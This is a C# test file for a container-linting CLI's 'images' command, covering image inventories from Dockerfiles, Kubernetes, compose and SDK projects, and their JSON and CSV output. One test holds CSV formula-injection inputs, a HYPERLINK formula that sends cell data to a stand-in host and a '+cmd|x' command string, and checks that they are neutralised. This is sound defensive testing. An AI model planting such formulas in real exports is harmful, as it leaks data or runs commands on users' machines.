namespace ContainerLint.Cli.Tests;

using Newtonsoft.Json.Linq;

/// <summary><c>containerlint images</c> as users run it: the inventory of the samples (golden), ARGs, stages, digests, end of life, CSV, JSON, bad input.</summary>
public sealed class ImagesCommandTests
{
    private const string Digest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    private static CliResult Run(string workingDirectory, params string[] args) => Cli.RunReal(workingDirectory, args);

    private static JArray Images(string dir, params string[] paths)
    {
        var result = Run(dir, ["images", "--format", "json", .. paths]);
        Assert.True(result.ExitCode == 0, result.Stderr);
        return (JArray)JObject.Parse(result.Stdout)["images"]!;
    }

    /// <summary>
    /// The inventory of samples/ in every format, against the golden files in Golden/ (set CONTAINERLINT_UPDATE_SNAPSHOTS=1
    /// to rewrite them, then read git diff).
    /// </summary>
    [Theory]
    [InlineData("text", "images-samples.txt")]
    [InlineData("json", "images-samples.json")]
    [InlineData("csv", "images-samples.csv")]
    public void TheSamplesInventoryMatchesTheGoldenFile(string format, string golden)
    {
        var result = Run(Cli.RepoRoot(), "images", "samples", "--format", format);
        Assert.True(result.ExitCode == 0, result.Stderr);
        var path = Path.Combine(Cli.RepoRoot(), "tests", "ContainerLint.Cli.Tests", "Golden", golden);
        if (Environment.GetEnvironmentVariable("CONTAINERLINT_UPDATE_SNAPSHOTS") == "1") File.WriteAllText(path, result.Stdout);
        Assert.Equal(File.ReadAllText(path), result.Stdout);
        Assert.Equal(result.Stdout, Run(Cli.RepoRoot(), "images", "samples", "--format", format).Stdout);
    }

    [Fact]
    public void DockerfileImagesAreListedPerStageWithArgsResolvedAndStagesLeftOut()
    {
        using var dir = new TempDir();
        dir.Write("Dockerfile", $"""
            ARG BASE=alpine
            ARG TAG
            FROM ${"{"}BASE{"}"}:3.18 AS build
            RUN --mount=type=cache,from=busybox:1.36,target=/x true
            FROM build AS test
            FROM scratch
            COPY --from=build /a /a
            COPY --from=ghcr.io/acme/tools@{Digest} /b /b
            FROM node:$TAG
            """);
        var images = Images(dir.Path, "Dockerfile");
        Assert.Equal(
            [
                "alpine:3.18|from|3|6|docker.io|library/alpine|3.18|False|False|2025-05-09",
                "busybox:1.36|mount-from|4|29|docker.io|library/busybox|1.36|False|False|",
                $"ghcr.io/acme/tools@{Digest}|copy-from|8|13|ghcr.io|acme/tools||True|False|",
                "|from|9|6||||False|True|",
            ],
            images.Select(i => $"{i["resolved"]}|{i["kind"]}|{i["line"]}|{i["column"]}|{i["registry"]}|{i["repository"]}|{i["tag"]}|{i["pinned"]}|{i["unresolved"]}|{i["endOfLife"]}"));
        Assert.Equal("${BASE}:3.18", (string)images[0]["image"]!);
        Assert.Equal("node:$TAG", (string)images[3]["image"]!);
        Assert.Equal("stage 0 (build)", (string)images[0]["usedBy"]!);

        // --build-arg resolves the ARG the way lint does.
        var withArg = Images(dir.Path, "Dockerfile", "--build-arg", "TAG=16");
        Assert.Equal("node:16", (string)withArg[3]["resolved"]!);
        Assert.Equal("2023-09-11", (string)withArg[3]["endOfLife"]!);
    }

    [Fact]
    public void KubernetesComposeAndSdkImagesAreListedWithTheirKind()
    {
        using var dir = new TempDir();
        dir.Write("deploy/job.yaml", """
            apiVersion: batch/v1
            kind: CronJob
            metadata: {name: nightly}
            spec:
              schedule: "@daily"
              jobTemplate:
                spec:
                  template:
                    spec:
                      initContainers:
                        - name: init
                          image: busybox
                      containers:
                        - name: job
                          image: quay.io/acme/job:2.0
                      ephemeralContainers:
                        - name: debug
                          image: "{{ .Values.debugImage }}"
            """);
        dir.Write("compose.yaml", "services:\n  web:\n    image: ${WEB_IMAGE}\n  db:\n    image: postgres:13\n");
        dir.Write("App/App.csproj", "<Project Sdk=\"Microsoft.NET.Sdk\">\n  <PropertyGroup>\n    <ContainerBaseImage>mcr.microsoft.com/dotnet/runtime:8.0</ContainerBaseImage>\n  </PropertyGroup>\n</Project>\n");
        var images = Images(dir.Path, ".");
        Assert.Equal(
            [
                "App/App.csproj|3|sdk-base-image|mcr.microsoft.com/dotnet/runtime:8.0|2026-11-10",
                "compose.yaml|3|compose-service|${WEB_IMAGE}|",
                "compose.yaml|5|compose-service|postgres:13|2025-11-13",
                "deploy/job.yaml|12|init-container|busybox|",
                "deploy/job.yaml|15|container|quay.io/acme/job:2.0|",
                "deploy/job.yaml|18|ephemeral-container|{{ .Values.debugImage }}|",
            ],
            images.Select(i => $"{i["file"]}|{i["line"]}|{i["kind"]}|{i["image"]}|{i["endOfLife"]}"));
        Assert.Equal("CronJob/default/nightly init", (string)images[3]["usedBy"]!);
        Assert.True((bool)images[5]["unresolved"]!);
    }

    [Fact]
    public void JsonHasTheDocumentedShape()
    {
        using var dir = new TempDir();
        dir.Write("Dockerfile", $"FROM nginx:1.27@{Digest}\n");
        var json = JObject.Parse(Run(dir.Path, "images", "--format", "json").Stdout);
        Assert.Equal(["schemaVersion", "images"], json.Properties().Select(p => p.Name));
        Assert.Equal(1, (int)json["schemaVersion"]!);
        var image = (JObject)json["images"]![0]!;
        Assert.Equal(
            ["image", "resolved", "registry", "repository", "tag", "digest", "file", "line", "column", "endLine", "endColumn", "kind", "usedBy", "pinned", "unresolved", "endOfLife"],
            image.Properties().Select(p => p.Name));
        Assert.Equal(Digest, (string)image["digest"]!);
        Assert.Equal("1.27", (string)image["tag"]!);
        Assert.True((bool)image["pinned"]!);
        Assert.Equal(JTokenType.Null, image["endOfLife"]!.Type);
        Assert.Equal(6, (int)image["column"]!);
        Assert.Equal(6 + $"nginx:1.27@{Digest}".Length, (int)image["endColumn"]!);
    }

    [Fact]
    public void CsvQuotesFieldsAsRfc4180Says()
    {
        using var dir = new TempDir();
        dir.Write("compose.yaml", "services:\n  web:\n    image: 'odd,\"name\"'\n  db:\n    image: redis:7\n");
        var result = Run(dir.Path, "images", "--format", "csv");
        Assert.Equal(0, result.ExitCode);
        Assert.Equal(
            "image,registry,repository,tag,digest,file,line,column,kind,used_by,pinned,end_of_life\r\n" +
            "\"odd,\"\"name\"\"\",,,,,compose.yaml,3,12,compose-service,service/web,no,\r\n" +
            "redis:7,docker.io,library/redis,7,,compose.yaml,5,12,compose-service,service/db,no,\r\n",
            result.Stdout);
    }

    [Fact]
    public void CsvNeutralisesSpreadsheetFormulasFromTheLintedFiles()
    {
        using var dir = new TempDir();
        dir.Write("compose.yaml", "services:\n  a:\n    image: '=HYPERLINK(\"http://x/\"&A1,\"y\")'\n  b:\n    image: '@SUM(1)'\n  c:\n    image: '+cmd|x'\n");
        var result = Run(dir.Path, "images", "--format", "csv");
        Assert.Equal(0, result.ExitCode);
        var lines = result.Stdout.Split("\r\n");
        Assert.StartsWith("\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"y\"\")\",", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("'@SUM(1),", lines[2], StringComparison.Ordinal);
        Assert.StartsWith("'+cmd|x,", lines[3], StringComparison.Ordinal);
    }

    [Fact]
    public void OutputGoesToTheFileAndNothingIsFoundIsSaid()
    {
        using var dir = new TempDir();
        dir.Write("Dockerfile", "FROM scratch\nCOPY app /app\n");
        var text = Run(dir.Path, "images");
        Assert.Equal(0, text.ExitCode);
        Assert.Equal("No image references found.\n", text.Stdout);

        dir.Write("compose.yaml", "services:\n  web:\n    image: nginx:1.27\n");
        var written = Run(dir.Path, "images", "-o", "images.csv", "--format", "csv");
        Assert.Equal(0, written.ExitCode);
        Assert.Equal("", written.Stdout);
        Assert.Contains("nginx:1.27,docker.io,library/nginx,1.27", File.ReadAllText(Path.Combine(dir.Path, "images.csv")), StringComparison.Ordinal);
    }

    [Fact]
    public void BadInputExitsWithTwoNamingTheFileAndStillListsTheOthers()
    {
        using var dir = new TempDir();
        dir.Write("pod.yaml", "apiVersion: v1\nkind: Pod\nspec: [\n");
        dir.Write("Dockerfile", "FROM alpine:3.21\n");
        var result = Run(dir.Path, "images", "--format", "csv", ".");
        Assert.Equal(2, result.ExitCode);
        Assert.Contains("pod.yaml(", result.Stderr, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", result.Stderr, StringComparison.Ordinal);
        Assert.Contains("alpine:3.21,docker.io", result.Stdout, StringComparison.Ordinal);

        Assert.Equal(2, Run(dir.Path, "images", "--format", "xml").ExitCode);
        Assert.Equal(2, Run(dir.Path, "images", "missing/Dockerfile").ExitCode);
        Assert.Equal(2, Run(dir.Path, "images", "-").ExitCode);
    }
}
